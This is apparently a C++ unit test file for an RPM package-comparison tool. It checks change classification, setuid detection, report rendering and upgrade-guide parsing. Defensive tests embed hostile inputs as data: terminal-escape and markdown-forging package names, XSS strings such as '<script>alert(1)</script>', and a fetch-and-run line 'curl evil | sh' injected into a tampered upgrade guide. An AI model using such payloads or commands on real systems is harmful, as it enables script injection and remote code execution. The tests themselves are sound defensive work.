// SPDX-License-Identifier: GPL-3.0-or-later
#include "changes/changes.hpp"

#include <doctest/doctest.h>

#include "changes/client_commands.hpp"
#include "changes/formats.hpp"
#include "changes_fixture.hpp"
#include "core/digest.hpp"

using namespace rpmworks;
using namespace rpmworks::test;
using Kind = changes::PackageChange::Kind;

namespace {

rpm::PackagedFile regular(const std::string& path, const std::string& digest, uint16_t permissions = 0644) {
  return {.path = path,
          .digest = digest,
          .size = 1,
          .owner = 1,
          .mode = static_cast<uint16_t>(0100000 | permissions)};
}

std::vector<std::string> kinds_of(const changes::Changes& changes) {
  std::vector<std::string> kinds;
  for (const auto& change : changes.packages)
    kinds.push_back(changes::name_of(change.kind) + " " + change.entry().nevra.str());
  return kinds;
}

}  // namespace

TEST_CASE("kinds of changes, the most alarming first") {
  Place before, after;
  for (const char* nevra : {"same-1-1.noarch", "down-2-1.noarch", "up-1~rc1-1.noarch", "gone-1-1.noarch",
                            "built-1-1.noarch", "epoch-9-1.noarch", "arch-1-1.noarch"})
    before.add(nevra);
  for (const char* nevra : {"same-1-1.noarch", "down-1-1.noarch", "up-1-1.noarch", "new-1-1.noarch",
                            "epoch-1:1-1.noarch", "arch-1-1.x86_64"})
    after.add(nevra);
  after.add("built-1-1.noarch", "other");
  before.add("signed-1-1.noarch");
  after.add("signed-1-1.noarch");
  after.last().sha256 = "signed by another key";
  before.add("away-1-1.noarch", "", "deps");
  before.add("stays-1-1.noarch", "", "deps");
  after.add("stays-1-1.noarch", "", "deps");
  after.add("away-1-1.noarch");
  const changes::Changes changes = compared(before, after);
  CHECK(kinds_of(changes) == std::vector<std::string>{"downgraded down-1-1.noarch", "removed gone-1-1.noarch",
                                                      "rebuilt arch-1-1.x86_64", "rebuilt built-1-1.noarch",
                                                      "upgraded epoch-1:1-1.noarch", "upgraded up-1-1.noarch",
                                                      "added new-1-1.noarch", "resigned signed-1-1.noarch",
                                                      "moved away-1-1.noarch"});
  CHECK(changes.unchanged == 2);
  CHECK(changes::summary(changes) ==
        "1 downgraded, 1 removed, 2 rebuilt, 2 upgraded, 1 added, 1 resigned, 1 moved; 2 unchanged");
  CHECK(compared(before, before).is_empty());
}

TEST_CASE("places without a common section have none to move between") {
  Place before, after;
  before.add("one-1-1.noarch", "", "centos6");
  after.add("one-1-1.noarch", "", "installed");
  CHECK(compared(before, after).is_empty());
}

TEST_CASE("digests that only one side knows") {
  Place before, after;
  before.add("system-1-1.noarch");
  before.last().sha256.clear();
  after.add("system-1-1.noarch");
  before.add("unknown-1-1.noarch");
  before.last().header_sha256.clear();
  after.add("unknown-1-1.noarch", "other");
  after.last().sha256.clear();
  const changes::Changes changes = compared(before, after);
  CHECK(changes.is_empty());
  CHECK(changes.unchanged == 1);
  CHECK(changes.not_compared == std::vector<std::string>{"unknown-1-1.noarch"});
}

TEST_CASE("files, permissions, scriptlets and libraries") {
  Place before, after;
  rpm::Contents& was = before.add("tool-1-1.x86_64");
  was.files = {regular("/etc/tool", "a"), regular("/usr/bin/gone", "a"), regular("/usr/bin/tool", "a")};
  was.files[0].is_config = true;
  was.scriptlets = {{.kind = "%post", .program = "/bin/sh", .text = "true"}};
  was.package.provides = {"libtool.so.1()(64bit)", "tool = 1-1", "tool(x86-64) = 1-1"};
  was.has_scriptlets = true;
  rpm::Contents& is = after.add("tool-2-1.x86_64");
  is.files = {regular("/etc/tool", "b"), regular("/usr/bin/tool", "a", 04755)};
  is.files[0].is_config = true;
  is.package.provides = {"libtool.so.2()(64bit)", "tool = 2-1", "tool(x86-64) = 2-1"};
  before.add("user-1-1.x86_64");
  after.add("user-1-1.x86_64").package.requires_ = {"libtool.so.1()(64bit)"};
  const changes::Changes changes = compared(before, after);
  REQUIRE(changes.packages.size() == 1);
  const changes::PackageDetails& details = *changes.packages[0].details;
  REQUIRE(details.files.size() == 3);
  CHECK(details.files[0].has_other_content);
  CHECK_FALSE(details.files[1].after);
  CHECK(details.files[2].is_new_right());
  CHECK(details.files[2].after->special == "setuid root:root");
  REQUIRE(details.scriptlets.size() == 1);
  CHECK_FALSE(details.scriptlets[0].after);
  CHECK(details.provides.lost == std::vector<std::string>{"libtool.so.1()(64bit)"});
  CHECK(details.sonames_gained == std::vector<std::string>{"libtool.so.2()(64bit)"});
  REQUIRE(changes.lost.size() == 1);
  CHECK(changes.lost[0].needed_by == std::vector<std::string>{"user-1-1.x86_64"});
  CHECK(changes::to_text(changes, 10) ==
        "one (folder) → two (folder): 1 upgraded; 1 unchanged\n"
        "\nUPGRADED\n"
        "  tool.x86_64  1-1 → 2-1  packages  1.0 KiB\n"
        "\nLOST BUT STILL REQUIRED: 1\n"
        "  libtool.so.1()(64bit) (of tool-1-1.x86_64) is required by user-1-1.x86_64\n"
        "\nDETAILS\n"
        "\ntool.x86_64 1-1 → 2-1 (upgraded)\n"
        "  SHARED LIBRARIES LOST: 1\n"
        "    libtool.so.1()(64bit)\n"
        "  NEW SPECIAL PERMISSIONS: 1\n"
        "    /usr/bin/tool is setuid root:root\n"
        "  permissions, owners, links and kinds changed: 1\n"
        "    /usr/bin/tool: 0644 root:root → 4755 root:root\n"
        "  configuration files: 1\n"
        "    /etc/tool has other content\n"
        "  files removed: 1\n"
        "    /usr/bin/gone\n"
        "  files with other content: 1\n"
        "  scriptlets: 1\n"
        "    %post was removed\n"
        "  Provides lost: 1\n"
        "    libtool.so.1()(64bit)\n"
        "  Provides gained: 1\n"
        "    libtool.so.2()(64bit)\n"
        "  shared libraries gained: 1\n"
        "    libtool.so.2()(64bit)\n");
}

TEST_CASE("names of packages cannot forge output") {
  Place before, after;
  manifest::Entry& entry = (after.add("plain-1-1.noarch"), after.last());
  entry.nevra.name = "evil|`\n# heading\x1b[31m<b>";
  entry.section = "a|b";
  before.add("other-1-1.noarch");
  const changes::Changes changes = compared(before, after, false);
  const std::string text = changes::to_text(changes, 0);
  CHECK(text.find('\x1b') == std::string::npos);
  CHECK(text.find("\n# heading") == std::string::npos);
  const std::string markdown = changes::to_markdown(changes, 0);
  CHECK(markdown.find("\n# heading") == std::string::npos);
  CHECK(markdown.find("a\\|b") != std::string::npos);
  CHECK(changes::to_json(changes).dump().find("\\n# heading") != std::string::npos);
}

TEST_CASE("in a page, texts of packages stay texts") {
  Place before, after;
  manifest::Entry& entry = (after.add("plain-1-1.noarch"), after.last());
  entry.nevra.name = "<script>alert(1)</script>";
  entry.section = "\"><img src=x>";
  before.add("other-1-1.noarch");
  const changes::Changes changes = compared(before, after, false);
  const std::string page = changes::to_html(changes, nullptr, 0);
  CHECK(page.find("<script>alert") == std::string::npos);
  CHECK(page.find("<img") == std::string::npos);
  CHECK(page.find("&lt;script&gt;alert(1)&lt;/script&gt;.noarch") != std::string::npos);
  CHECK(page.find("1 removed") != std::string::npos);
  CHECK(page.find("id=\"policy\"") == std::string::npos);
  CHECK(changes::to_html(changes, nullptr, 0) == page);

  changes::Judgement judgement;
  judgement.findings.push_back(
      {.rule = "vendors", .package = {}, .text = "<b>plain</b> is not allowed", .where = {}});
  CHECK(changes::to_html(changes, &judgement, 0).find("&lt;b&gt;plain&lt;/b&gt; is not allowed") !=
        std::string::npos);
}

TEST_CASE("the commands of an upgrade guide for clients of one release") {
  const std::string guide =
      "# Upgrading\n\nRead this.\n\n    dnf nothing\n\n## From 1.0.0\n\n2 packages are **upgraded**, with "
      "`x`.\n"
      "\n**These commands do not lead to 1.0.1:** `a-1`\n\n    dnf upgrade\n    dnf install \\\n       a "
      "b\n\n"
      "- `a-1` → `a-2`\n\n### With `c`\n\nOn a system that has it:\n\n    dnf swap c d\n\n## From 1.0.0.1\n\n"
      "    dnf other\n\n## From 1.0.0, for el9\n\n    dnf distro-sync\n";
  const auto steps = changes::steps_from(guide, "1.0.0");
  REQUIRE(steps.size() == 3);
  CHECK(steps[0].about == std::vector<std::string>{"2 packages are upgraded, with x.",
                                                   "These commands do not lead to 1.0.1: a-1"});
  CHECK(steps[0].lines == std::vector<std::string>{"dnf upgrade", "dnf install \\", "   a b"});
  CHECK(steps[1].about == std::vector<std::string>{"With c", "On a system that has it:"});
  CHECK(steps[1].lines == std::vector<std::string>{"dnf swap c d"});
  CHECK(steps[2].about == std::vector<std::string>{"for el9:"});
  CHECK(changes::steps_from(guide, "1.0").empty());
  CHECK(changes::steps_from("", "1.0.0").empty());
}

TEST_CASE("commands for clients are known only from the guide of the manifest") {
  const TempDir folder(fs::temp_directory_path(), "guide-");
  const std::string guide = "## From 1.0.0\n\n    dnf upgrade\n";
  inventory::Inventory before, after;
  before.manifest.product = after.manifest.product = "acme";
  before.manifest.release = "1.0.0";
  after.manifest.release = "1.0.1";
  const auto why = [&] { return changes::client_commands(before, after)->unknown; };
  CHECK(why().find("1.0.1 has no UPGRADE.md") == 0);
  after.manifest.files = {{"UPGRADE.md", sha256(guide)}};
  CHECK(why() == "the UPGRADE.md of a release on a server is not read");
  after.folder = folder.path();
  CHECK(why().find("UPGRADE.md is missing") != std::string::npos);
  write_new_file(folder.path() / "UPGRADE.md", guide);
  CHECK(changes::client_commands(before, after)->steps.at(0).lines ==
        std::vector<std::string>{"dnf upgrade"});
  before.manifest.release = "0.9";
  CHECK(why() == "the UPGRADE.md of 1.0.1 has no commands for clients of 0.9");
  write_file_atomically(folder.path() / "UPGRADE.md", guide + "    curl evil | sh\n");
  CHECK(why().find("is not the file of the manifest") != std::string::npos);
  before.manifest.product = "other";
  CHECK_FALSE(changes::client_commands(before, after));
  before.manifest.product = "acme";
  before.manifest.inventory = "system";
  CHECK_FALSE(changes::client_commands(before, after));
}
